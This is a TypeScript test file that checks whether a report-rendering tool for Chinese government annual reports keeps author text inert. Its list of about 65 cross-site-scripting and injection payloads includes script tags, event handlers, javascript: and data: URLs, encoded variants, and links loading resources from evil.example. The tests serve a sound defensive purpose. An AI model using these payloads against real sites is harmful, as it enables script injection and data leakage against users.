import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkReport, defaultSettings, parseReport } from '../../../server/src/core/index.js';
import { arbitraryReport } from '../edit/arbitraryReport.js';
import { htmlOf, pageOf } from './drawPage.js';
import { expectInert } from './expectInert.js';
import { findAll, named } from './readPage.js';

/** Ways that have turned text into active content elsewhere. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script\u0000>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '![图](https://evil.example/pixel.png)',
  '![图](javascript:alert(1))',
  '![图][x]\n\n[x]: https://evil.example/pixel.png',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<style>@import "//evil.example/x.css";</style>',
  '<style onload=alert(1)></style>',
  '<p style="background:url(//evil.example)">x</p>',
  '<form action="//evil.example"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](command:workbench.action.terminal.new)',
  '[x](vscode://file/etc/passwd)',
  '[x](//evil.example)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://example.gov.cn/"onmouseover="alert(1)>',
  '[x](https://example.gov.cn "\\" onmouseover=\\"alert(1)")',
  'https://example.gov.cn/"onmouseover="alert(1)',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '`<script>alert(1)</script>`',
  '``` "><script>alert(1)</script>\nx\n```',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '- [ ] <script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '\u2028<script>alert(1)</script>\u2029',
];

/** Every place where an author's words get onto the page. */
const places: Readonly<Record<string, (attack: string) => string>> = {
  'a paragraph': (attack) => `一、总体情况\n\n${attack}\n`,
  'the middle of a paragraph': (attack) => `正文，${attack}，正文。\n`,
  'a numbered paragraph': (attack) => `1. ${attack}\n`,
  'a list': (attack) => `- 一项\n- ${attack}\n`,
  'a quotation': (attack) => `> ${attack}\n`,
  'the title': (attack) => `# ${attack}年度报告\n`,
  'a heading': (attack) => `## 一、${attack}\n\n### ${attack}\n`,
  'the front matter': (attack) => `---\norganisation: ${attack}\nyear: 2024\n---\n\n正文。\n`,
  'a comment': (attack) => `<!-- ${attack} -->\n\n<!-- crossfoot-disable-next-line ${attack}: ${attack} -->\n正文。\n`,
  'an HTML block': (attack) => `<div>${attack}\n${attack}\n</div>\n`,
  'a code block': (attack) => `\`\`\`${attack}\n${attack}\n\`\`\`\n`,
  'a table': (attack) => `| ${attack} | b |\n| --- | --- |\n| 1 | ${attack} |\n`,
  'a tab-separated table': (attack) => `${attack}\tb\n1\t${attack}\n`,
  'a statutory table': (attack) =>
    `| 项目 | 结果维持 | ${attack} | 其他结果 | 尚未审结 | 总计 |\n|-|-|-|-|-|-|\n| 行政复议 | ${attack} | 0 | 0 | 0 | 1 | ${attack} |\n| ${attack} | 1 |\n| 行政诉讼 复议后起诉 | 0 | 0 | 0 | 0 | 0 |\n`,
  'the signature': (attack) => `## 六、其他需要报告的事项\n\n无。\n\n${attack}某局\n2025年1月20日\n（此件${attack}）\n`,
};

describe.each(Object.entries(places))('in %s', (_, place) => {
  it.each(attacks)('%j is only text', (attack) => {
    const text = place(attack);
    const { report, findings } = checkReport(text, defaultSettings);
    for (const locale of ['zh-CN', 'en'] as const) {
      expectInert(htmlOf(pageOf(report, findings, locale)));
    }
  });
});

describe('raw HTML', () => {
  it('is shown as it is written', () => {
    const report = parseReport('正文 <b onclick="x()">粗</b> 正文。\n\n<table><tr><td>1</td></tr></table>\n');
    const page = expectInert(htmlOf(pageOf(report)));
    expect(page.text).toContain('正文 <b onclick="x()">粗</b> 正文。');
    expect(page.text).toContain('<table><tr><td>1</td></tr></table>');
    expect(findAll(page, named('td', 'b'))).toEqual([]);
  });
});

describe('any report', () => {
  it('renders without an exception, well-formed and inert, and the same each time', { timeout: 120_000 }, () => {
    fc.assert(
      fc.property(arbitraryReport, fc.constantFrom(...attacks), fc.nat(), (text, attack, at) => {
        const place = text.length === 0 ? 0 : at % text.length;
        const attacked = text.slice(0, place) + attack + text.slice(place);
        const { report, findings } = checkReport(attacked, defaultSettings);
        const rendered = pageOf(report, findings);
        expectInert(htmlOf(rendered));
        expect(pageOf(parseReport(attacked), findings)).toEqual(rendered);
      }),
      { numRuns: 400 },
    );
  });
});
